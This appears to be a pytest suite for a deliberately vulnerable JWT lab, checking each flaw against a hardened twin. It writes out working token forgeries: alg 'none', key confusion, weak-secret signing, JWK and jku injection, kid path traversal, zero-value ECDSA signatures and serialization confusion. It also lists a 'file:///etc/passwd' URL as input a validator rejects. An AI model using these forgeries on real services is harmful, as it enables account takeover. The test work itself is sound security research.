"""Each JWT flaw of the lab (plus the bearer-side authz/transport ones), proven with plain HTTP.

Every test runs three ways (`mode` from conftest): the flaw alone, every flaw on, and the hardened
twin; the flaw must show in the first two and be gone in the third. The verifying endpoint is
`GET /oauth/userinfo`, which goes through `AuthService.bearer_principal` like every resource route.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from authsift.lab.key_fetch import is_loopback_http_url
from tests.lab._token_helpers import (
    ALL_ON,
    OFF,
    Lab,
    LabPool,
    accepted_as,
    b64d,
    b64e,
    encode_part,
    hs256,
    http,
    login,
    pool,
    segments,
    whoami,
)

__all__ = ["pool"]  # the module-scoped LabPool fixture


def lab_for(pool: LabPool, mode: str, flaw_id: str) -> Lab:
    return pool.for_mode(mode, flaw_id)


def es256(header: dict[str, Any], claims: dict[str, Any], key: ec.EllipticCurvePrivateKey) -> str:
    signing_input = f"{encode_part(header)}.{encode_part(claims)}"
    r, s = decode_dss_signature(key.sign(signing_input.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{signing_input}.{b64e(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def ec_jwk(key: ec.EllipticCurvePrivateKey, kid: str) -> dict[str, str]:
    numbers = key.public_key().public_numbers()
    return {
        "kty": "EC",
        "crv": "P-256",
        "kid": kid,
        "x": b64e(numbers.x.to_bytes(32, "big")),
        "y": b64e(numbers.y.to_bytes(32, "big")),
    }


def test_signature_not_verified_on_session_endpoint_only(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-signature-not-verified")
    token = login(lab)["access_token"]
    head, body, signature = token.split(".")
    middle = len(signature) // 2
    flipped = "A" if signature[middle] != "A" else "B"
    tampered = f"{head}.{body}.{signature[:middle]}{flipped}{signature[middle + 1 :]}"
    assert accepted_as(whoami(lab, token, "/auth/session"), "alice")
    assert accepted_as(whoami(lab, tampered, "/auth/session"), "alice") is (mode != OFF)
    # the verifying routes stay strict, so the other forgery checks are not masked
    assert whoami(lab, tampered).status == 401


@pytest.mark.parametrize("alg", ["none", "nOnE"])
def test_alg_none(pool: LabPool, mode: str, alg: str) -> None:
    lab = lab_for(pool, mode, "jwt-alg-none")
    header, claims, _ = segments(login(lab)["access_token"])
    unsecured = f"{encode_part(header | {'alg': alg})}.{encode_part(claims)}."
    assert accepted_as(whoami(lab, unsecured), "alice") is (mode != OFF)


def test_alg_confusion_public_key_as_hmac_secret(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-alg-confusion-hmac")
    header, claims, _ = segments(login(lab)["access_token"])
    jwk = next(
        k
        for k in http("GET", lab.url + "/.well-known/jwks.json").json()["keys"]
        if k["kid"] == header["kid"]
    )
    public = rsa.RSAPublicNumbers(
        int.from_bytes(b64d(jwk["e"]), "big"), int.from_bytes(b64d(jwk["n"]), "big")
    ).public_key()
    pem = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    forged = hs256(header | {"alg": "HS256"}, claims, pem)
    assert accepted_as(whoami(lab, forged), "alice") is (mode != OFF)


def test_weak_hmac_secret_on_service_tokens(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-weak-hmac-secret")
    reply = http(
        "POST",
        lab.url + "/oauth/token",
        form={"grant_type": "client_credentials", "scope": "read"},
        headers={"Authorization": "Basic cmVwb3J0aW5nLWJvdDpib3QtbGFiLXBhc3MtNA=="},
    )
    assert reply.status == 200, reply.body
    token = reply.json()["access_token"]
    header, claims, signature = segments(token)
    head_b64, body_b64, _ = token.split(".")
    cracked = hmac.new(b"secret123", f"{head_b64}.{body_b64}".encode(), hashlib.sha256).digest()
    assert (header["alg"] == "HS256" and b64e(cracked) == signature) is (mode != OFF)
    # confirmation: a token signed with the dictionary secret, identical claims
    confirmation = hs256(
        {"alg": "HS256", "typ": "at+jwt", "kid": "svc-hs256-legacy"}, claims, b"secret123"
    )
    assert accepted_as(whoami(lab, confirmation), "reporting-bot") is (mode != OFF)


def test_header_jwk_injection(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-header-key-injection")
    header, claims, _ = segments(login(lab)["access_token"])
    attacker = ec.generate_private_key(ec.SECP256R1())
    forged = es256(
        {"alg": "ES256", "typ": "at+jwt", "kid": header["kid"], "jwk": ec_jwk(attacker, "x")},
        claims,
        attacker,
    )
    assert accepted_as(whoami(lab, forged), "alice") is (mode != OFF)


@pytest.fixture(scope="module")
def attacker_jwks() -> Iterator[tuple[str, ec.EllipticCurvePrivateKey, list[str]]]:
    """A JWKS served on 127.0.0.1 (the scanner's out-of-band listener), recording fetches."""
    key = ec.generate_private_key(ec.SECP256R1())
    document = json.dumps({"keys": [ec_jwk(key, "attacker-1")]}).encode()
    fetched: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            fetched.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(document)

        def log_message(self, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", key, fetched
    finally:
        server.shutdown()
        server.server_close()


def test_jku_followed_to_attacker_url(
    pool: LabPool, mode: str, attacker_jwks: tuple[str, ec.EllipticCurvePrivateKey, list[str]]
) -> None:
    lab = lab_for(pool, mode, "jwt-remote-key-url-injection")
    base, key, fetched = attacker_jwks
    _, claims, _ = segments(login(lab)["access_token"])
    path = f"/jwks-{mode}.json"
    forged = es256(
        {"alg": "ES256", "typ": "at+jwt", "kid": "attacker-1", "jku": base + path}, claims, key
    )
    assert accepted_as(whoami(lab, forged), "alice") is (mode != OFF)
    assert (path in fetched) is (mode != OFF)


def test_key_fetch_never_leaves_loopback() -> None:
    assert is_loopback_http_url("http://127.0.0.1:9/jwks.json")
    for url in (
        "http://example.com/jwks.json",
        "https://127.0.0.1/x",
        "http://10.0.0.1/",
        "file:///etc/passwd",
    ):
        assert not is_loopback_http_url(url)


def test_kid_path_traversal_to_dev_null(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-kid-injection")
    _, claims, _ = segments(login(lab)["access_token"])
    forged = hs256(
        {"alg": "HS256", "typ": "at+jwt", "kid": "../../../../../../dev/null"}, claims, b""
    )
    assert accepted_as(whoami(lab, forged), "alice") is (mode != OFF)
    missing = hs256({"alg": "HS256", "typ": "at+jwt", "kid": "tool-5f3a9c"}, claims, b"")
    assert whoami(lab, missing).status == 401


def test_ecdsa_psychic_signature_on_mobile_tokens(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-ecdsa-psychic-signature")
    token = login(lab, path="/auth/mobile/login")["access_token"]
    assert segments(token)[0]["alg"] == "ES256"
    assert accepted_as(whoami(lab, token), "alice")  # genuine ES256 tokens always verify
    head, body, _ = token.split(".")
    psychic = f"{head}.{body}.{b64e(bytes(64))}"
    assert accepted_as(whoami(lab, psychic), "alice") is (mode != OFF)


def test_serialization_confusion_forged_claims_take_effect(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-serialization-confusion")
    token = login(lab)["access_token"]
    head, body, signature = token.split(".")
    _, claims, _ = segments(token)
    forged_payload = encode_part(claims | {"sub": "2", "preferred_username": "bob"})
    mixed = json.dumps(
        {
            f"{head}.{forged_payload}.": "",
            "protected": head,
            "payload": body,
            "signature": signature,
        }
    )
    reply = whoami(lab, mixed)
    assert accepted_as(reply, "bob") is (mode != OFF)  # bob's markers: the forged sub took effect


def test_audience_not_validated(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-audience-not-validated")
    other = login(lab, audience="reports-service")["access_token"]
    assert segments(other)[1]["aud"] == "reports-service"
    assert accepted_as(whoami(lab, other), "alice") is (mode != OFF)


def test_issuer_not_validated(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-issuer-not-validated")
    partner = login(lab, tenant="partner")["access_token"]
    assert segments(partner)[1]["iss"].endswith("/tenants/partner")
    assert accepted_as(whoami(lab, partner), "alice") is (mode != OFF)


def test_refresh_token_accepted_as_access_token(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-token-type-confusion")
    tokens = login(lab)
    assert segments(tokens["access_token"])[0]["typ"] == "at+jwt"
    assert accepted_as(whoami(lab, tokens["refresh_token"]), "alice") is (mode != OFF)
    if mode != ALL_ON:  # the ID token's aud is the client: only the audience flaw lets it in
        assert whoami(lab, tokens["id_token"]).status == 401


def test_jwks_key_hygiene(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "jwt-jwks-key-hygiene")
    keys = http("GET", lab.url + "/.well-known/jwks.json").json()["keys"]
    private_members = {"d", "p", "q", "dp", "dq", "qi", "oth", "k"}
    leaks = any(private_members & set(k) for k in keys)
    weak = any(k["kty"] == "RSA" and len(b64d(k["n"])) * 8 < 2048 for k in keys)
    assert (leaks and weak) is (mode != OFF)
    assert not (leaks or weak) or mode != OFF


def test_fail_open_on_non_jwt_bearer_values(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "authz-invalid-credential-accepted")
    for value in ("null", "undefined", "[object Object]", b64e(bytes(range(32)))):
        assert accepted_as(whoami(lab, value), "alice") is (mode != OFF), value
    # JWT-shaped junk (the scanner's R_junk baseline) is rejected in every mode
    junk = f"{encode_part({'alg': 'RS256'})}.{encode_part({'sub': '1'})}.{b64e(bytes(32))}"
    assert whoami(lab, junk).status == 401


def test_access_token_in_query(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "transport-credentials-in-query-accepted")
    token = login(lab)["access_token"]
    reply = http("GET", f"{lab.url}/oauth/userinfo?access_token={token}")
    assert accepted_as(reply, "alice") is (mode != OFF)


def test_www_authenticate_on_invalid_token(pool: LabPool, mode: str) -> None:
    lab = lab_for(pool, mode, "transport-www-authenticate-conformance")
    reply = whoami(lab, login(lab)["access_token"] + "x")
    assert reply.status == 401
    challenge = reply.header("WWW-Authenticate") or ""
    assert ('error="invalid_token"' in challenge) is (mode == OFF)
    no_credential = http("GET", lab.url + "/oauth/userinfo")
    assert no_credential.status == 401
    assert (no_credential.header("WWW-Authenticate") or "").startswith("Bearer")
    assert "error=" not in (no_credential.header("WWW-Authenticate") or "")  # RFC 6750 §3.1
